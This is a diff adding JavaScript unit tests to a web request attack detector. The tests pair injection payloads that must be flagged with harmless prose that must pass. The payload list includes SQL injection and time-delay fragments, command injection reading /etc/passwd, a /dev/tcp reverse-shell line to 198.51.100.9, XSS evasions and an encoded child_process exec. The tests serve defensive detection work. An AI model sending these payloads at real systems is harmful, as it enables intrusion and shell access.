@@ -101,3 +101,31 @@ test('a separator in prose scores lower than an injected command', () => {
   assert.ok(prose.score < attack.score, `${prose.score} vs ${attack.score}`);
   assert.equal(prose.attack, false);
 });
+
+// Shapes added with the CRS-driven work: each attack class next to prose that shares its words.
+test('fragments, evasions and encodings are attacks; prose that quotes code is not', () => {
+  const attacks = [
+    "foo')waitfor delay'5:0:20'--", "2010-01-01' sleep(20.to_i) '", "admin@example.com';", "1='1' or-- -", 'DR/**/OP/*bypass*/sampletable',
+    '0/**/union/*!50000select*/table_name', 'concat(', 'INFORMATION_SCHEMA', 'union select col from', "OR '{\"b\":2}'::jsonb <@ '{\"a\":1}'::jsonb",
+    'IF /I "%var%" NEQ "0" ECHO inequality', '/etc/pas[s]wd', 'alias -p x=id', ';cpulimit -l 100 -f whoami', '1;.sh whoami',
+    "d=/dev&&(sh)0>/dev/tcp/198.51.100.9/777", "'formaction=", 'ja&tab;vascript:', '(![]+[])[+!+[]]', '-moz-binding:url(http://x.example/x.xml#x)',
+    '<?xml :echo 1;', '(system)(ls);', "$ {'fdf'}", 'memory_limit = 512M', 'process["env"]',
+  ];
+  for (const a of attacks) assert.ok(inspect({ query: `v=${encodeURIComponent(a)}` }).attack, a);
+  // a form body sent as one key and a base64-encoded cookie are looked inside
+  assert.ok(inspect({ body: 'pay%3DAND+2771%3D1709%29', contentType: 'application/x-www-form-urlencoded' }).attack);
+  assert.ok(inspect({ headers: { cookie: `t=${Buffer.from('require("child_process").exec(\'id\')').toString('base64')}` } }).attack);
+  const benign = [
+    'I ran `git pull && npm install && npm start` and got the same error.', 'My script does: cat access.log | grep 404 | wc -l — is there a faster way?',
+    'Could you send the output of `uname -a` and the last 50 lines of /var/log/app.log?', '../assets/logo.svg', 'curl/8.5.0', 'touch screen',
+    'python os.system alternative', "SELECT id, subject FROM tickets WHERE status = 'open' ORDER BY created_at DESC", 'Benchmark: 12k req/s before, 15k after',
+    'category: sleep', 'union jack flag', "O'Reilly auto parts", '```sh\ncurl -s https://api.example.com/health | jq .status\n```',
+  ];
+  for (const b of benign) assert.equal(inspect({ body: JSON.stringify({ text: b }), contentType: 'application/json' }).attack, false, b);
+});
+
+test('paranoia 2 blocks on one high-confidence finding', () => {
+  const probe = { query: `v=${encodeURIComponent("AND value = '")}` };
+  assert.equal(inspect(probe).attack, false);
+  assert.equal(inspect(probe, { paranoia: 2 }).attack, true);
+});
